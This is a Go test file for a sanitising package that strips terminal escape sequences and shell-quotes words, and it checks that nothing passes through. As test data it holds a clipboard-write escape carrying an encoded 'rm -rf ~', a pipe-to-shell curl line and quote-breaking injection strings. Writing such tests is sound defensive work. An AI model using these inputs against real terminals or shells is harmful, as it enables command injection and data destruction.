package printable

import (
	"encoding/json"
	"os/exec"
	"strings"
	"testing"
	"unicode"
)

// hostile writes into the clipboard, clears the screen, and turns the line round.
const hostile = "a\x1b]52;c;cm0gLXJmIH4=\x07\x1b[2J\rb\u202ec\u009bHé\xffz\nsecond\tline\U000E0001"

func TestNothingThatATerminalActsOnComesThrough(t *testing.T) {
	var written strings.Builder
	if n, err := (Writer{&written}).Write([]byte(hostile)); err != nil || n != len(hostile) {
		t.Errorf("wrote %d of %d: %v", n, len(hostile), err)
	}
	for name, c := range map[string]struct{ got, want, kept string }{
		"Line":   {Line(hostile), "a ]52;c;cm0gLXJmIH4=  [2J b c Hé\uFFFDz second line ", ""},
		"Text":   {Text(hostile), "a ]52;c;cm0gLXJmIH4=  [2J b c Hé\uFFFDz\nsecond\tline ", "\n\t"},
		"Writer": {written.String(), Text(hostile), "\n\t"},
	} {
		if c.got != c.want {
			t.Errorf("%s: %q, want %q", name, c.got, c.want)
		}
		for _, r := range c.got {
			if !unicode.IsPrint(r) && !strings.ContainsRune(c.kept, r) {
				t.Errorf("%s lets %q through", name, r)
			}
		}
	}
}

func TestAnOrdinaryTextStaysAsItIs(t *testing.T) {
	for _, s := range []string{"", "node-1.example.com", "Knoten Zürich", "ノード", "i-0abc (ID 7)"} {
		if Line(s) != s || Text(s) != s || string(JSON([]byte(s))) != s {
			t.Errorf("%q became %q, %q and %q", s, Line(s), Text(s), JSON([]byte(s)))
		}
	}
}

func TestJSONSaysTheSameAndNothingInItActs(t *testing.T) {
	said := strings.ToValidUTF8(hostile, "\uFFFD")
	document, err := json.MarshalIndent(map[string]string{said: said}, "", "\t")
	if err != nil {
		t.Fatal(err)
	}
	out := JSON(document)
	var again map[string]string
	if err := json.Unmarshal(out, &again); err != nil || again[said] != said {
		t.Errorf("%v: %q", err, again)
	}
	for _, r := range string(out) {
		if !unicode.IsPrint(r) && r != '\n' && r != '\t' {
			t.Errorf("%q comes through: %q", r, out)
		}
	}
}

var words = []string{"n1.example.com", "pvc-0a/vol_1@x:2,3+4=5%", "i 1", "it's", "", "$(id)", "`id`", "x;curl${IFS}evil.sh|sh", `{"HostName":"n1"}`, `a\b`, `"`, "!!", "~", "#x", "*", "Zürich",
	"';echo evil;'", "'';echo evil;'", `\';echo evil;\'`, "a&&echo evil", "a\necho evil"}

// The shell itself is asked, bare and within the quotes in which a sentence shows a
// command: a person may copy those too.
func TestAShellTakesAWordAsOneAndRunsNothing(t *testing.T) {
	shell, err := exec.LookPath("sh")
	if err != nil {
		t.Skip("no shell")
	}
	for _, word := range words {
		out, err := exec.Command(shell, "-c", `printf '%s|' `+Word(word)).CombinedOutput()
		if want := Line(word) + "|"; err != nil || string(out) != want {
			t.Errorf("%q: as %s a shell reads %q (%v), want %q", word, Word(word), out, err, want)
		}
		// It is one command of no name, or an unfinished one.
		out, err = exec.Command(shell, "-c", "'csi-fencepost release "+Word(word)+" --reason ...'").CombinedOutput()
		if err == nil || strings.HasPrefix(string(out), "evil") || strings.Contains(string(out), "\nevil") {
			t.Errorf("%q: a shell runs %q: %v", word, out, err)
		}
	}
}

func TestAnOrdinaryNameIsNotQuoted(t *testing.T) {
	for _, name := range []string{"n1.example.com", "i-0abc", "projects/p/zones/z/instances/i", "iqn.1993-08.org.debian:01:abc", "a@b,c=d+e%f_g"} {
		if Word(name) != name {
			t.Errorf("%s is written %s", name, Word(name))
		}
	}
}

func FuzzWordIsHarmlessInsideAndOutsideOfQuotes(f *testing.F) {
	for _, word := range words {
		f.Add(word)
	}
	f.Fuzz(func(t *testing.T, s string) {
		word := Word(s)
		if word == s || word == "''" {
			return
		}
		// Each character that means something is behind a backslash or is one.
		for rest := word; rest != ""; {
			if rest[0] == '\\' {
				rest = rest[1:]
			} else if meansSomething([]rune(rest)[0]) {
				t.Fatalf("%q is written %q: %q is bare", s, word, rest)
			}
			rest = string([]rune(rest)[1:])
		}
		if strings.ContainsFunc(word, func(r rune) bool { return !unicode.IsPrint(r) }) {
			t.Fatalf("%q is written %q", s, word)
		}
	})
}
